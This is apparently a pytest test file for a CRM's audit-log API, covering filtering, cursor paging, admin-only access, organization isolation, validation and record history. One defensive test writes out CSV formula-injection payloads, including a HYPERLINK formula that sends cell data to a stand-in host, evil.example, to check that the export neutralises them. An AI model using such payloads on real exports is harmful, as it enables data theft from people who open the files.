"""The audit API (GET /api/audit, GET /api/audit.csv) and record history
(GET /api/records/{module}/{id}/history), on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from typing import Any
from urllib.parse import quote

import pytest
from httpx import Response
from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import delete, select

import finite.core.audit.listing as listing
from finite.core.accounts.service import update_role_permissions
from finite.kit.clock import utcnow
from finite.kit.db import Database
from finite.kit.derived_keys import Peppers
from finite.models import AuditEntry
from tests.factories import OrgSetup, bearer, make_member_key, make_org

Client = AsyncTestClient[Litestar]
LEADS = "/api/records/leads"
CONTACTS = "/api/records/contacts"
ROW_KEYS = set(listing.COLUMNS)


def settle(client: Client) -> None:
    """Write the buffered audit rows and seal them, on the app's own loop."""
    platform = client.app.state.platform
    client.blocking_portal.call(platform.audit.flush)
    client.blocking_portal.call(platform.sealer.seal_now)


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat()


async def org_rows(db: Database, org_id: str, before: datetime) -> list[AuditEntry]:
    """The organization's rows up to `before`, newest first: what the API should answer."""
    async with db.read() as session:
        found = await session.scalars(
            select(AuditEntry)
            .where(AuditEntry.org_id == org_id, AuditEntry.occurred_at < before)
            .order_by(AuditEntry.occurred_at.desc(), AuditEntry.id.desc())
        )
        return list(found.all())


@dataclass
class Traffic:
    """An organization's calls up to `cutoff`; the audit API's own calls come after it."""

    org: OrgSetup
    manager_id: str
    manager_key: str
    manager_key_id: str
    lead_id: int
    contact_id: int
    cutoff: datetime
    rows: list[AuditEntry]


async def make_traffic(client: Client, db: Database, peppers: Peppers, org: OrgSetup) -> Traffic:
    owner = bearer(org.crm_key)
    manager_id, manager_key = await make_member_key(db, peppers, org.org_id, "Manager")
    manager = bearer(manager_key)
    lead = (await client.post(LEADS, json={"name": "Ada", "company": "AE"}, headers=owner)).json()
    await client.put(f"{LEADS}/{lead['id']}", json={"company": "DE"}, headers=owner)
    await client.get(f"{LEADS}/{lead['id']}", headers=owner)
    contact = (await client.post(CONTACTS, json={"name": "Byron"}, headers=manager)).json()
    assert "id" in contact, contact
    await client.get(f"{LEADS}/424242", headers=manager)  # 404
    await client.post(LEADS, json={"name": ""}, headers=owner)  # 400
    await client.get(LEADS, headers=manager)
    settle(client)
    cutoff = utcnow()  # later calls (the audit API's own) are at or after it
    rows = await org_rows(db, org.org_id, cutoff)
    assert len(rows) == 7
    manager_key_id = next(r.key_id for r in rows if r.member_id == manager_id)
    assert manager_key_id is not None
    return Traffic(
        org, manager_id, manager_key, manager_key_id, lead["id"], contact["id"], cutoff, rows
    )


async def audit(client: Client, key: str, **params: Any) -> Response:
    return await client.get("/api/audit", params=params, headers=bearer(key))


async def audit_ids(client: Client, traffic: Traffic, **params: Any) -> list[str]:
    response = await audit(client, traffic.org.crm_key, to=iso(traffic.cutoff), limit=200, **params)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["has_more"] is False
    return [row["id"] for row in body["data"]]


def expect(traffic: Traffic, keep: Any) -> list[str]:
    return [row.id for row in traffic.rows if keep(row)]


@pytest.fixture
async def traffic(client: Client, db: Database, peppers: Peppers, org: OrgSetup) -> Traffic:
    return await make_traffic(client, db, peppers, org)


# --- GET /api/audit ------------------------------------------------------------------------


async def test_an_admin_reads_the_log_newest_first_with_every_column(
    client: Client, traffic: Traffic
) -> None:
    response = await audit(client, traffic.org.crm_key, to=iso(traffic.cutoff))
    assert response.status_code == 200, response.text
    body = response.json()
    assert set(body) == {"data", "next_cursor", "has_more"}
    assert (body["has_more"], body["next_cursor"]) == (False, None)
    assert [row["id"] for row in body["data"]] == [row.id for row in traffic.rows]
    for shown, stored in zip(body["data"], traffic.rows, strict=True):
        assert set(shown) == ROW_KEYS
        assert shown["seq"] is not None
        assert shown["hash"] == stored.hash
        assert shown["status"] == stored.status
        assert shown["changes"] == stored.changes
        assert shown["user_agent"] == stored.user_agent
        assert datetime.fromisoformat(shown["occurred_at"]) == stored.occurred_at
    update_row = next(r for r in body["data"] if r["action"] == "update")
    assert update_row["changes"] == {"company": {"before": "AE", "after": "DE"}}
    assert (update_row["method"], update_row["key_name"]) == ("PUT", "crm test")


@pytest.mark.parametrize(
    "case",
    [
        "key_id",
        "member_id",
        "module",
        "record_id",
        "status",
        "status_4xx",
        "status_2xx",
        "from",
        "to",
        "combined",
    ],
)
async def test_each_filter(client: Client, traffic: Traffic, case: str) -> None:
    middle = traffic.rows[3].occurred_at
    params: dict[str, Any]
    keep: Any
    if case == "key_id":
        params, keep = (
            {"key_id": traffic.manager_key_id},
            (lambda r: r.key_id == traffic.manager_key_id),
        )
    elif case == "member_id":
        params, keep = (
            {"member_id": traffic.manager_id},
            (lambda r: r.member_id == traffic.manager_id),
        )
    elif case == "module":
        params, keep = {"module": "contacts"}, (lambda r: r.module == "contacts")
    elif case == "record_id":
        params = {"module": "leads", "record_id": traffic.lead_id}
        keep = lambda r: (r.module, r.record_id) == ("leads", traffic.lead_id)  # noqa: E731
    elif case == "status":
        params, keep = {"status": "404"}, (lambda r: r.status == 404)
    elif case == "status_4xx":
        params, keep = {"status": "4xx"}, (lambda r: 400 <= r.status < 500)
    elif case == "status_2xx":
        params, keep = {"status": "2XX"}, (lambda r: 200 <= r.status < 300)
    elif case == "from":  # inclusive; written with an offset other than UTC
        params = {"from": middle.astimezone(timezone_plus_two()).isoformat()}
        keep = lambda r: r.occurred_at >= middle  # noqa: E731
    elif case == "to":  # exclusive; "Z" accepted
        params, keep = {}, (lambda r: r.occurred_at < middle)
        found = await client.get(
            "/api/audit",
            params={"to": middle.isoformat().replace("+00:00", "Z")},
            headers=bearer(traffic.org.crm_key),
        )
        assert found.status_code == 200, found.text
        assert [r["id"] for r in found.json()["data"]] == expect(traffic, keep)
        return
    else:
        params = {"member_id": traffic.org.owner_id, "status": "2xx", "module": "leads"}
        keep = lambda r: (  # noqa: E731
            r.member_id == traffic.org.owner_id and 200 <= r.status < 300 and r.module == "leads"
        )
    wanted = expect(traffic, keep)
    assert wanted, case  # the filter has something to find
    assert len(wanted) < len(traffic.rows), case  # and something to leave out
    assert await audit_ids(client, traffic, **params) == wanted


def timezone_plus_two() -> timezone:
    return timezone(timedelta(hours=2))


async def test_a_plus_offset_sent_unencoded_still_reads(client: Client, traffic: Traffic) -> None:
    """`?from=…+02:00` typed into a URL arrives with a space where the plus was."""
    middle = traffic.rows[3].occurred_at
    typed = middle.astimezone(timezone_plus_two()).isoformat()
    assert "+02:00" in typed
    response = await client.get(
        f"/api/audit?from={typed}&to={quote(iso(traffic.cutoff))}",
        headers=bearer(traffic.org.crm_key),
    )
    assert response.status_code == 200, response.text
    wanted = expect(traffic, lambda r: r.occurred_at >= middle)
    assert [r["id"] for r in response.json()["data"]] == wanted


async def test_the_cursor_walks_every_row_once_newest_first(
    client: Client, traffic: Traffic
) -> None:
    seen: list[str] = []
    cursor = None
    pages = 0
    while True:
        params = {"to": iso(traffic.cutoff), "limit": 2}
        if cursor:
            params["cursor"] = cursor
        body = (await audit(client, traffic.org.crm_key, **params)).json()
        pages += 1
        seen += [row["id"] for row in body["data"]]
        assert len(body["data"]) <= 2
        if not body["has_more"]:
            assert body["next_cursor"] is None
            break
        cursor = body["next_cursor"]
        assert isinstance(cursor, str)
    assert pages == 4
    assert seen == [row.id for row in traffic.rows]
    assert len(set(seen)) == len(seen)


async def test_rows_sharing_a_timestamp_page_without_loss(
    client: Client, db: Database, org: OrgSetup
) -> None:
    """The id breaks ties, so rows of the same instant are neither skipped nor repeated."""
    moment = utcnow() - timedelta(days=1)
    async with db.transaction() as session:
        session.add_all(
            [
                AuditEntry(
                    org_id=org.org_id,
                    id=f"aud_tie{index:02d}",
                    occurred_at=moment,
                    product="crm",
                    method="GET",
                    path="/api/records/leads",
                    status=200,
                    request_id=f"req_tie{index}",
                )
                for index in range(5)
            ]
        )
    seen: list[str] = []
    params: dict[str, Any] = {"to": iso(moment + timedelta(microseconds=1)), "limit": 2}
    while True:
        body = (await audit(client, org.crm_key, **params)).json()
        seen += [row["id"] for row in body["data"]]
        if not body["has_more"]:
            break
        params["cursor"] = body["next_cursor"]
    assert seen == [f"aud_tie{index:02d}" for index in reversed(range(5))]


async def test_only_an_admin_reads_the_log(
    client: Client, db: Database, peppers: Peppers, org: OrgSetup
) -> None:
    _, manager = await make_member_key(db, peppers, org.org_id, "Manager")
    for path in ("/api/audit", "/api/audit.csv"):
        refused = await client.get(path, headers=bearer(manager))
        assert refused.status_code == 403, refused.text
        assert refused.json()["code"] == "FORBIDDEN"
        assert (await client.get(path)).status_code == 401


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("from=yesterday", "from"),
        ("from=2026-01-01T10:00:00", "from"),  # no timezone
        ("to=2026-13-01T00:00:00Z", "to"),
        ("from=0001-01-01T00:00:00%2B01:00", "from"),  # before year 1 in UTC
        ("from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "to"),
        ("limit=0", "limit"),
        ("limit=201", "limit"),
        ("limit=ten", "limit"),
        ("limit=%C2%B2", "limit"),  # a superscript two is a digit to str.isdigit
        ("cursor=not-a-cursor", "cursor"),
        ("cursor=WyJ4IiwgInkiXQ", "cursor"),  # base64 of a list, but no position
        ("status=600", "status"),
        ("status=4x", "status"),
        ("status=abc", "status"),
        ("record_id=abc", "record_id"),
        ("record_id=-1", "record_id"),
        ("record_id=0", "record_id"),
        ("record_id=99999999999999999999", "record_id"),
        ("module=" + "m" * 41, "module"),
        ("key_id=", "key_id"),
        ("stauts=404", "stauts"),  # a mistyped filter never widens the answer
        ("status=404&status=500", "status"),
    ],
)
async def test_bad_parameters_are_400_naming_the_parameter(
    client: Client, org: OrgSetup, query: str, parameter: str
) -> None:
    for path in ("/api/audit", "/api/audit.csv"):
        response = await client.get(f"{path}?{query}", headers=bearer(org.crm_key))
        assert response.status_code == 400, (path, response.text)
        body = response.json()
        assert body["code"] == "VALIDATION_ERROR"
        assert parameter in {detail["field"] for detail in body["details"]}, body


async def test_the_csv_takes_no_paging_parameters(client: Client, org: OrgSetup) -> None:
    response = await client.get("/api/audit.csv?limit=5", headers=bearer(org.crm_key))
    assert response.status_code == 400
    assert response.json()["details"][0]["field"] == "limit"


async def test_another_organizations_rows_never_appear(
    client: Client, db: Database, peppers: Peppers, traffic: Traffic
) -> None:
    other = await make_org(db, peppers)
    other_auth = bearer(other.crm_key)
    await client.post(LEADS, json={"name": "Other"}, headers=other_auth)
    await client.get(f"{LEADS}/1", headers=other_auth)
    settle(client)
    async with db.read() as session:
        theirs = set(
            (
                await session.scalars(
                    select(AuditEntry.id).where(AuditEntry.org_id == other.org_id)
                )
            ).all()
        )
    assert len(theirs) == 2
    mine = await audit(client, traffic.org.crm_key, limit=200)
    assert mine.status_code == 200
    assert not theirs & {row["id"] for row in mine.json()["data"]}
    assert {row["key_id"] for row in mine.json()["data"]} <= {
        traffic.org.crm_key_id,
        traffic.manager_key_id,
    }
    for params in ({"key_id": other.crm_key_id}, {"member_id": other.owner_id}):
        found = await audit(client, traffic.org.crm_key, **params)
        assert found.json()["data"] == []
    exported = await client.get("/api/audit.csv", headers=bearer(traffic.org.crm_key))
    assert not theirs & {row["id"] for row in csv.DictReader(io.StringIO(exported.text))}
    # And the other way around.
    theirs_listed = (await audit(client, other.crm_key, limit=200)).json()["data"]
    assert {row["id"] for row in theirs_listed} >= theirs
    assert not {row.id for row in traffic.rows} & {row["id"] for row in theirs_listed}


# --- GET /api/audit.csv --------------------------------------------------------------------


def parse_csv(response: Response) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.reader(io.StringIO(response.content.decode("utf-8"), newline=""))
    header, *rows = list(reader)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


async def test_the_csv_export_streams_every_row_in_keyset_batches(
    client: Client, traffic: Traffic, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listing, "CSV_BATCH", 2)  # many batches from a handful of rows
    response = await client.get(
        "/api/audit.csv", params={"to": iso(traffic.cutoff)}, headers=bearer(traffic.org.crm_key)
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    today = utcnow().date().isoformat()
    assert response.headers["content-disposition"] == (
        f'attachment; filename="audit-{traffic.org.org_id}-{today}.csv"'
    )
    assert response.content.endswith(b"\r\n")  # RFC 4180 line ends
    header, rows = parse_csv(response)
    assert header == list(listing.COLUMNS)
    assert [row["id"] for row in rows] == [row.id for row in traffic.rows]
    for shown, stored in zip(rows, traffic.rows, strict=True):
        assert shown["status"] == str(stored.status)
        assert shown["seq"] == str(stored.seq)
        assert shown["hash"] == stored.hash
        assert shown["changes"] == ("" if stored.changes is None else shown["changes"])
        if stored.changes is not None:
            assert json.loads(shown["changes"]) == stored.changes
        assert datetime.fromisoformat(shown["occurred_at"]) == stored.occurred_at


async def test_the_csv_export_honours_the_filters(client: Client, traffic: Traffic) -> None:
    response = await client.get(
        "/api/audit.csv",
        params={"to": iso(traffic.cutoff), "status": "4xx", "member_id": traffic.manager_id},
        headers=bearer(traffic.org.crm_key),
    )
    assert response.status_code == 200
    _, rows = parse_csv(response)
    wanted = expect(traffic, lambda r: 400 <= r.status < 500 and r.member_id == traffic.manager_id)
    assert [row["id"] for row in rows] == wanted
    assert len(wanted) == 1


async def test_the_csv_export_of_nothing_is_just_the_header(
    client: Client, traffic: Traffic
) -> None:
    response = await client.get(
        "/api/audit.csv", params={"module": "invoices"}, headers=bearer(traffic.org.crm_key)
    )
    assert response.status_code == 200
    assert response.text == ",".join(listing.COLUMNS) + "\r\n"


async def test_the_csv_export_defuses_formulas_and_quotes_per_rfc_4180(
    client: Client, db: Database, org: OrgSetup
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    awkward = 'Line one\nline "two", and a comma'
    started = utcnow()
    lead = await client.post(
        LEADS,
        json={"name": formula, "company": awkward},
        headers={**bearer(org.crm_key), "User-Agent": formula},
    )
    assert lead.status_code == 201, lead.text
    key = await client.post(
        "/api/keys", json={"name": "@SUM(1+1)*cmd"}, headers=bearer(org.crm_key)
    )
    assert key.status_code == 201, key.text
    for agent in ("+1+2", "-2+3", "@cmd", "plain agent"):
        await client.get(LEADS, headers={**bearer(key.json()["key"]), "User-Agent": agent})
    settle(client)
    response = await client.get(
        "/api/audit.csv",
        params={"from": iso(started), "to": iso(utcnow())},
        headers=bearer(org.crm_key),
    )
    assert response.status_code == 200
    _, rows = parse_csv(response)
    assert len(rows) == 6
    agents = [row["user_agent"] for row in rows]
    assert agents[:4] == ["plain agent", "'@cmd", "'-2+3", "'+1+2"]
    created = next(row for row in rows if row["action"] == "create")
    assert created["user_agent"] == "'" + formula
    changes = json.loads(created["changes"])  # quotes, commas and newlines survive the trip
    assert changes["name"] == {"before": None, "after": formula}
    assert changes["company"] == {"before": None, "after": awkward}
    assert {row["key_name"] for row in rows[:4]} == {"'@SUM(1+1)*cmd"}
    for row in rows:  # no cell left that a spreadsheet would run
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


# --- GET /api/records/{module}/{id}/history -------------------------------------------------


async def history(client: Client, key: str, module: str, record_id: int, **params: Any) -> Response:
    return await client.get(
        f"/api/records/{module}/{record_id}/history", params=params, headers=bearer(key)
    )


async def test_history_shows_who_changed_what_newest_first(
    client: Client, db: Database, peppers: Peppers, org: OrgSetup
) -> None:
    manager_id, manager_key = await make_member_key(db, peppers, org.org_id, "Manager")
    owner = bearer(org.crm_key)
    lead = (await client.post(LEADS, json={"name": "Ada", "company": "AE"}, headers=owner)).json()
    url = f"{LEADS}/{lead['id']}"
    assert (await client.put(url, json={"company": "DE"}, headers=owner)).status_code == 200
    assert (await client.get(url, headers=owner)).status_code == 200  # a view is no change
    changed = await client.put(
        url, json={"status": "Contacted", "company": "XE"}, headers=bearer(manager_key)
    )
    assert changed.status_code == 200, changed.text
    assert (await client.put(url, json={"company": "XE"}, headers=owner)).status_code == 200
    settle(client)

    response = await history(client, org.crm_key, "leads", lead["id"])
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["has_more"], body["next_cursor"]) == (False, None)
    entries = body["data"]
    assert [entry["action"] for entry in entries] == ["update", "update", "create"]
    latest, earlier, created = entries
    assert (latest["member_id"], latest["member_name"], latest["key_name"]) == (
        manager_id,
        "Manager Member",
        "Manager key",
    )
    assert latest["changes"] == {
        "company": {"before": "DE", "after": "XE"},
        "status": {"before": "New", "after": "Contacted"},
    }
    assert (earlier["member_id"], earlier["member_name"], earlier["key_name"]) == (
        org.owner_id,
        "Olivia Owner",
        "crm test",
    )
    assert earlier["changes"] == {"company": {"before": "AE", "after": "DE"}}
    assert created["changes"]["name"] == {"before": None, "after": "Ada"}
    moments = [datetime.fromisoformat(entry["occurred_at"]) for entry in entries]
    assert moments == sorted(moments, reverse=True)

    first = (await history(client, org.crm_key, "leads", lead["id"], limit=2)).json()
    assert [e["id"] for e in first["data"]] == [latest["id"], earlier["id"]]
    assert first["has_more"] is True
    rest = await history(
        client, org.crm_key, "leads", lead["id"], limit=2, cursor=first["next_cursor"]
    )
    assert [e["id"] for e in rest.json()["data"]] == [created["id"]]
    assert rest.json()["has_more"] is False


async def test_a_deleted_record_keeps_its_history(client: Client, org: OrgSetup) -> None:
    owner = bearer(org.crm_key)
    lead = (await client.post(LEADS, json={"name": "Gone"}, headers=owner)).json()
    url = f"{LEADS}/{lead['id']}"
    assert (await client.delete(url, headers=owner)).status_code == 204
    assert (await client.get(url, headers=owner)).status_code == 404
    response = await history(client, org.crm_key, "leads", lead["id"])
    assert response.status_code == 200, response.text
    entries = response.json()["data"]
    assert [entry["action"] for entry in entries] == ["delete", "create"]
    assert entries[0]["changes"]["name"] == {"before": "Gone", "after": None}


async def test_history_needs_view_permission(
    client: Client, db: Database, peppers: Peppers, org: OrgSetup
) -> None:
    lead = (await client.post(LEADS, json={"name": "Ada"}, headers=bearer(org.crm_key))).json()
    _, standard = await make_member_key(db, peppers, org.org_id, "Standard")
    assert (await history(client, standard, "leads", lead["id"])).status_code == 200
    async with db.transaction() as session:
        await update_role_permissions(session, org.org_id, "Standard", {"leads": []})
    refused = await history(client, standard, "leads", lead["id"])
    assert refused.status_code == 403, refused.text
    assert refused.json()["code"] == "FORBIDDEN"
    assert (await history(client, standard, "leads", 987654)).status_code == 403


async def test_history_of_what_the_organization_never_had_is_404(
    client: Client, db: Database, peppers: Peppers, org: OrgSetup
) -> None:
    other = await make_org(db, peppers)
    theirs = await client.post(
        LEADS, json={"name": "Secret", "company": "Theirs"}, headers=bearer(other.crm_key)
    )
    their_id = theirs.json()["id"]
    # Probing the id first leaves a (view) audit row for it in this organization: still 404.
    assert (await client.get(f"{LEADS}/{their_id}", headers=bearer(org.crm_key))).status_code == 404
    settle(client)
    response = await history(client, org.crm_key, "leads", their_id)
    assert response.status_code == 404, response.text
    assert "Secret" not in response.text
    assert response.json()["code"] == "NOT_FOUND"
    mine = await history(client, other.crm_key, "leads", their_id)
    assert [e["action"] for e in mine.json()["data"]] == ["create"]


async def test_a_record_without_audit_rows_has_an_empty_history(
    client: Client, db: Database, org: OrgSetup
) -> None:
    lead = (await client.post(LEADS, json={"name": "Old"}, headers=bearer(org.crm_key))).json()
    async with db.transaction() as session:  # as if created before the audit log existed
        await session.execute(
            delete(AuditEntry).where(
                AuditEntry.org_id == org.org_id, AuditEntry.record_id == lead["id"]
            )
        )
    response = await history(client, org.crm_key, "leads", lead["id"])
    assert response.status_code == 200, response.text
    assert response.json() == {"data": [], "next_cursor": None, "has_more": False}


async def test_history_of_an_unknown_module_or_with_bad_paging(
    client: Client, org: OrgSetup
) -> None:
    unknown = await client.get("/api/records/nope/1/history", headers=bearer(org.crm_key))
    assert unknown.status_code == 404
    assert unknown.json()["code"] == "NOT_FOUND"
    lead = (await client.post(LEADS, json={"name": "Ada"}, headers=bearer(org.crm_key))).json()
    for params, parameter in (({"limit": 0}, "limit"), ({"status": "404"}, "status")):
        bad = await history(client, org.crm_key, "leads", lead["id"], **params)
        assert bad.status_code == 400, bad.text
        assert bad.json()["details"][0]["field"] == parameter
    huge = await client.get(f"{LEADS}/{10**22}/history", headers=bearer(org.crm_key))
    assert huge.status_code == 404
    # The record routes next to it are untouched.
    assert (await client.get(f"{LEADS}/{lead['id']}", headers=bearer(org.crm_key))).json()[
        "id"
    ] == lead["id"]


async def test_history_calls_are_audited_but_are_not_history(
    client: Client, db: Database, org: OrgSetup
) -> None:
    lead = (await client.post(LEADS, json={"name": "Ada"}, headers=bearer(org.crm_key))).json()
    first = await history(client, org.crm_key, "leads", lead["id"])
    settle(client)
    async with db.read() as session:
        row = (
            await session.scalars(
                select(AuditEntry).where(AuditEntry.request_id == first.headers["X-Request-ID"])
            )
        ).one()
    assert (row.module, row.record_id, row.action, row.status) == (
        "leads",
        lead["id"],
        "history",
        200,
    )
    again = await history(client, org.crm_key, "leads", lead["id"])
    assert [e["action"] for e in again.json()["data"]] == ["create"]
